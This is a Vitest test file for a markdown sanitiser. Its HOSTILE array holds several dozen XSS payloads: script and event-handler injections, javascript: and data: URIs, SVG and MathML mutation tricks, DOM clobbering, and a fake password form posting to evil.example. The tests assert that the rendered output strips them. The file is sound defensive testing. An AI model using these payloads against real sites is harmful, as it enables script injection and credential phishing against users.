// @vitest-environment jsdom
// The sanitiser walks the document in ways that happy-dom only half knows.
import { describe, expect, it } from 'vitest'

import { renderMarkdown } from './markdown'

const HOSTILE = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://ok.example/a.png" onload=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<select autofocus onfocus=alert(1)></select>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<details open ontoggle=alert(1)>x</details>',
  '<body onload=alert(1)>',
  '<style>*{display:none}</style>',
  '<p style="position:fixed;inset:0;background:red">x</p>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](/api/auth/logout)',
  '[x](//evil.example)',
  '[x](tel:+123)',
  '[x](ftp://evil.example/x)',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![x](http://insecure.example/a.png)',
  '![x" onerror="alert(1)](https://ok.example/a.png)',
  '[x](https://ok.example "onmouseover=alert(1)")',
  '<https://ok.example/"onmouseover="alert(1)>',
  '`<img src=x onerror=alert(1)>`',
  '```html\n<script>alert(1)</script>\n```',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<div id="app" class="dark">x</div>',
  '<a id=location name=cookie href="https://ok.example">clobber</a>',
  '<custom-element onclick=alert(1)>x</custom-element>',
  '<b onclick=alert(1) data-x=1 aria-label=x>x</b>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
]

function parsed(source: string): HTMLElement {
  const box = document.createElement('div')
  box.innerHTML = renderMarkdown(source)
  return box
}

const FORBIDDEN =
  'script,style,link,meta,base,iframe,object,embed,form,input,button,textarea,select,svg,math,video,audio,template'

describe('Markdown of a stranger can do nothing', () => {
  it.each(HOSTILE)('%s', (source) => {
    const box = parsed(source)

    expect(box.querySelector(FORBIDDEN)).toBeNull()
    for (const element of box.querySelectorAll('*')) {
      for (const { name } of element.attributes) {
        expect(name).not.toMatch(/^(on|style$|id$|name$|data-|aria-|srcdoc|srcset|xlink)/)
      }
    }
    for (const link of box.querySelectorAll('a[href]')) {
      expect(link.getAttribute('href')).toMatch(/^(https?:|mailto:)/i)
      expect(link.getAttribute('rel')).toBe('noopener noreferrer nofollow')
    }
    for (const image of box.querySelectorAll('img')) expect(image.getAttribute('src')).toMatch(/^https:/)
  })
})

describe('Markdown of a friend', () => {
  it('keeps its words, lists, tables and code', () => {
    const box = parsed('**Tall** ones\n\n- twice\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```\nlong line\n```')

    expect(box.querySelector('strong')?.textContent).toBe('Tall')
    expect(box.querySelector('li')?.textContent).toBe('twice')
    expect(box.querySelectorAll('.prose-scroll td')).toHaveLength(2)
    expect(box.querySelector('pre[tabindex="0"] code')?.textContent).toBe('long line\n')
  })

  it('has headings below those of the page', () => {
    expect(parsed('# One\n\n#### Four').innerHTML).toMatch(/<h4>One<\/h4>\s*<h6>Four<\/h6>/)
    expect(parsed('> ## Two\n\n### Three').innerHTML).toMatch(/<h4>Two<\/h4>[^]*<h5>Three<\/h5>/)
  })

  it('shows task lists without form controls', () => {
    const box = parsed('- [x] seen\n- [ ] open\n- plain')

    expect(box.textContent).toMatch(/☑ seen\s+☐ open/)
    expect([...box.querySelectorAll('li')].map((item) => item.className)).toEqual([
      ...['prose-task', 'prose-task'],
      '',
    ])
  })

  it('opens links elsewhere, and says nothing about where they were clicked', () => {
    const link = parsed('https://example.com/a').querySelector('a')

    expect(link?.getAttribute('target')).toBe('_blank')
    expect(link?.getAttribute('rel')).toContain('noreferrer')
  })
})
